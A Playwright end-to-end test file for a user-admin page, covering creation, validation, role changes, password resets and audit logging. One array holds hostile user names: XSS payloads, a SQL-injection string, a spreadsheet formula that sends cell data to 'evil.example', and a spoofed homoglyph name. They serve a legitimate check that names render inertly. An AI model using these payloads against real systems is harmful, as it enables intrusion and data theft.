import { eq } from 'drizzle-orm';
import { users } from '@/db/schema';
import {
  auditEventsFor,
  createTestUser,
  e2eDb,
  expect,
  signIn,
  storageStateFor,
  test,
} from '../fixtures';

const HOSTILE_NAMES = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '<svg/onload=window.__pwned=1>',
  '"><svg onload=alert(1)>',
  "' OR '1'='1",
  '=HYPERLINK("http://evil.example/?x="&A1,"x")',
  'аdmin \u202Eevil\u200B',
];

test.describe('user admin', () => {
  test.use({ storageState: storageStateFor('admin') });

  test('an admin creates a user; the change is audited once with its values and no password', async ({
    page,
  }) => {
    const email = `created-${Date.now()}@example.test`;
    await page.goto('/admin/users');
    const form = page.getByRole('form', { name: 'Create a user' });
    await form.getByLabel('Name').fill('Dana Created');
    await form.getByLabel('Email').fill(email);
    await form.getByLabel('Role').selectOption('auditor');
    await form.getByLabel(/Initial password/).fill('created-password-1');
    await form.getByLabel(/Last day of access/).fill('2031-03-31');
    await form.getByRole('button', { name: 'Create user' }).click();
    await expect(form.getByRole('status')).toHaveText(`${email} created.`);
    await expect(page.getByRole('cell', { name: email, exact: true })).toBeVisible();

    const [user] = await e2eDb()
      .select({ id: users.id, role: users.role })
      .from(users)
      .where(eq(users.email, email));
    expect(user?.role).toBe('auditor');
    const events = await auditEventsFor(user!.id);
    expect(events).toHaveLength(1);
    expect(events[0]!.action).toBe('user.create');
    expect(events[0]!.actor_email).toBe('admin@demo.test');
    expect(events[0]!.changes).toEqual([
      { field: 'email', old: null, new: email },
      { field: 'name', old: null, new: 'Dana Created' },
      { field: 'role', old: null, new: 'auditor' },
      { field: 'active', old: null, new: true },
      { field: 'expires_at', old: null, new: '2031-03-31T23:59:59.999Z' },
    ]);
    expect(JSON.stringify(events)).not.toContain('created-password-1');
  });

  test('a bad form names the problem and creates nothing', async ({ page }) => {
    await page.goto('/admin/users');
    const form = page.getByRole('form', { name: 'Create a user' });
    await form.getByLabel('Name').fill('No Mail');
    await form.getByLabel('Email').fill('not-an-email');
    await form.getByLabel(/Initial password/).fill('short');
    await form.getByRole('button', { name: 'Create user' }).click();
    await expect(form.locator('#new-email-error')).toHaveText('Email is not a valid address');
    await expect(form.locator('#new-password-error')).toHaveText(
      'Password must be at least 12 characters',
    );
    const rows = await e2eDb()
      .select({ id: users.id })
      .from(users)
      .where(eq(users.email, 'not-an-email'));
    expect(rows).toHaveLength(0);
  });

  test('role change, deactivation, reactivation, password reset and expiry each write one event with old and new values', async ({
    page,
  }) => {
    const target = await createTestUser('reviewer');
    await page.goto('/admin/users');
    const row = page.locator(`tr[data-row-id="${target.id}"]`);

    await row.getByLabel(`Role of ${target.email}`).selectOption('auditor');
    await row.getByRole('button', { name: 'Save role' }).click();
    await expect(page.getByRole('status').first()).toHaveText(`${target.email} is now Auditor.`);

    await row.getByRole('button', { name: `Deactivate ${target.email}` }).click();
    await expect(row.getByText('Deactivated')).toBeVisible();
    await row.getByRole('button', { name: `Reactivate ${target.email}` }).click();
    await expect(row.getByText('Active', { exact: true })).toBeVisible();

    await row.getByRole('button', { name: `Reset password of ${target.email}` }).click();
    const resetDialog = page.getByRole('dialog');
    await resetDialog.getByLabel(/New password/).fill('brand-new-password-1');
    await resetDialog.getByRole('button', { name: 'Reset password' }).click();
    await expect(resetDialog).toBeHidden();

    await row.getByRole('button', { name: `Set access expiry of ${target.email}` }).click();
    const expiryDialog = page.getByRole('dialog');
    await expiryDialog.getByLabel('Last day of access').fill('2030-12-31');
    await expiryDialog.getByRole('button', { name: 'Save expiry' }).click();
    await expect(row.getByText('2030-12-31')).toBeVisible();

    const events = await auditEventsFor(target.id);
    expect(events.map((e) => [e.action, e.changes])).toEqual([
      ['user.create', expect.any(Array)],
      ['user.role_change', [{ field: 'role', old: 'reviewer', new: 'auditor' }]],
      ['user.deactivate', [{ field: 'active', old: true, new: false }]],
      ['user.reactivate', [{ field: 'active', old: false, new: true }]],
      ['user.password_reset', [{ field: 'password', old: '[redacted]', new: '[redacted]' }]],
      ['user.expiry_change', [{ field: 'expires_at', old: null, new: '2030-12-31T23:59:59.999Z' }]],
    ]);
    expect(
      events
        .slice(1)
        .every((e) => e.actor_email === 'admin@demo.test' && e.actor_ip === '127.0.0.1'),
    ).toBe(true);
    expect(JSON.stringify(events)).not.toContain('brand-new-password-1');
  });

  test('the new password works after a reset', async ({ page, browser }) => {
    const target = await createTestUser('reviewer');
    await page.goto('/admin/users');
    const row = page.locator(`tr[data-row-id="${target.id}"]`);
    await row.getByRole('button', { name: `Reset password of ${target.email}` }).click();
    await page
      .getByRole('dialog')
      .getByLabel(/New password/)
      .fill('after-reset-password-1');
    await page.getByRole('dialog').getByRole('button', { name: 'Reset password' }).click();
    await expect(page.getByRole('dialog')).toBeHidden();
    const context = await browser.newContext({ storageState: undefined });
    const other = await context.newPage();
    await signIn(other, target.email, 'after-reset-password-1');
    await expect(other.getByTestId('current-user-name')).toHaveText(target.name);
    await context.close();
  });

  test('hostile user names render as text and never run', async ({ page }) => {
    for (const name of HOSTILE_NAMES) await createTestUser('reviewer', { name });
    await page.addInitScript(() => {
      window.alert = () => {
        (window as unknown as { __pwned: number }).__pwned = 2;
      };
    });
    for (const path of ['/admin/users', '/']) {
      await page.goto(path);
      for (const name of HOSTILE_NAMES.slice(0, 4)) {
        if (path === '/admin/users')
          await expect(page.getByText(name, { exact: true }).first()).toBeVisible();
      }
      expect(
        await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned),
      ).toBeUndefined();
      expect(await page.locator('img[src="x"], svg[onload]').count()).toBe(0);
    }
  });
});
